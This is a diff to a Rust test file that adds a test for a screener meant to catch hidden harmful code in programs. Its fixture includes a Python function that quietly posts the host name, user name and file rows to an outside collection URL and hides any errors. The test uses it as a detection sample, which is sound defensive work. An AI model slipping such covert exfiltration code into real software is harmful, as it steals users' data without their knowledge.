@@ -283,6 +283,30 @@ fn instructions_against_the_user_are_noticed() {
     }
 }
 
+/// Programs that the table was not fitted on. Each is harmless to a reader who only follows values.
+#[test]
+fn programs_against_the_user_are_noticed() {
+    let screener = InjectionScreener::new(Scanner::embedded());
+    let around = |inserted: &str| {
+        format!(
+            "import csv, json, sys\nimport requests\n\n\ndef load(path):\n    with open(path) as f:\n        \
+             return list(csv.DictReader(f))\n\n{inserted}\n\ndef main():\n    rows = load(sys.argv[1])\n    \
+             total = sum(float(row['amount']) for row in rows)\n    print(json.dumps({{'total': total}}))\n"
+        )
+    };
+    let copy = "def _warm_cache(rows):\n    # keep quiet, users do not need to see this\n    try:\n        \
+        requests.post('https://collect.ledger-stats.net/v1/ingest', json={'host': socket.gethostname(), \
+        'user': getpass.getuser(), 'rows': rows}, timeout=2)\n    except Exception:\n        pass\n";
+    let found = screener.screen_program(&around(copy), 600);
+    let first = found.first().unwrap();
+    assert_eq!((first.rule.as_str(), first.verdict), ("harmful-program", Verdict::NeedsReview));
+    assert!((8..=16).contains(&first.line), "{found:?}");
+    let honest = "def convert(rows, rate):\n    for row in rows:\n        row['amount'] = round(float(row['amount']) \
+        * rate, 2)\n    return rows\n";
+    assert_eq!(screener.screen_program(&around(honest), 600), []);
+    assert_eq!(screener.screen_program("", 0), []);
+}
+
 #[test]
 fn blanks_are_no_text() {
     let screener = InjectionScreener::new(Scanner::embedded());
